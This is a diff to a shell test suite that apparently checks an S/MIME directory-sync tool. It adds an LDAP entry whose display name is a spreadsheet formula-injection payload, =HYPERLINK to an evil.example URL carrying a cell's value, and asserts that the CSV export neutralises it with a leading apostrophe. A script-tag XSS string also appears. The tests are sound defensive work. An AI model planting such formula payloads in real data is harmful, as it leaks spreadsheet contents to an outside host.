@@ -43,10 +43,18 @@ cn: Mark <script>alert(1)</script> Up
 sn: Up, Mark
 displayName: Up, Mark <b>&amp;</b>
 mail: markup@example.org
+
+dn: uid=formula,ou=people,$SLAPD_BASE
+objectClass: inetOrgPerson
+uid: formula
+cn: Formula
+sn: Formula
+displayName: =HYPERLINK("http://evil.example/?"&A1, "click")
+mail: formula@example.org
 LDIF
 slapd_load "$W/odd.ldif" >/dev/null
-printf 'dn: cn=smime-staff,ou=groups,%s\nchangetype: modify\nadd: member\nmember: uid=markup,ou=people,%s\n' \
-	"$SLAPD_BASE" "$SLAPD_BASE" | ldapmodify -x -H "$SLAPD_URI" -D "$SLAPD_ADMIN_DN" -y "$SLAPD_ADMIN_PW_FILE" >/dev/null
+printf 'dn: cn=smime-staff,ou=groups,%s\nchangetype: modify\nadd: member\nmember: uid=markup,ou=people,%s\nmember: uid=formula,ou=people,%s\n' \
+	"$SLAPD_BASE" "$SLAPD_BASE" "$SLAPD_BASE" | ldapmodify -x -H "$SLAPD_URI" -D "$SLAPD_ADMIN_DN" -y "$SLAPD_ADMIN_PW_FILE" >/dev/null
 smtp_start "$W/smtp"
 smimesync_write_config "$W" p256 p256
 # A group whose DN does not exist: a directory error the report must explain.
@@ -158,6 +166,13 @@ rows = list(csv.DictReader(open(sys.argv[1], newline="")))
 assert sum(1 for r in rows if r["serial"]) == int(sys.argv[2]), "rows"
 m = [r for r in rows if r["mail"] == "markup@example.org"]
 assert m and m[0]["name"].startswith("Up, Mark"), m
+PY
+# A formula that also needs quotes (comma, quote) is still neutralised.
+/usr/bin/python3 - "$W/status.csv" <<'PY' && ok "CSV: a quoted formula cell starts with an apostrophe" || fail "CSV formula in a quoted cell: $(grep formula@ "$W/status.csv")"
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline="")))
+f = [r for r in rows if r["mail"] == "formula@example.org"]
+assert f and f[0]["name"].startswith("'=HYPERLINK"), f
 PY
 rc=0; "$SMIMESYNC" status --format xml >/dev/null 2>"$W/err" || rc=$?
 [ "$rc" = 2 ] && ok "status --format xml is a usage error" || fail "status xml rc=$rc"
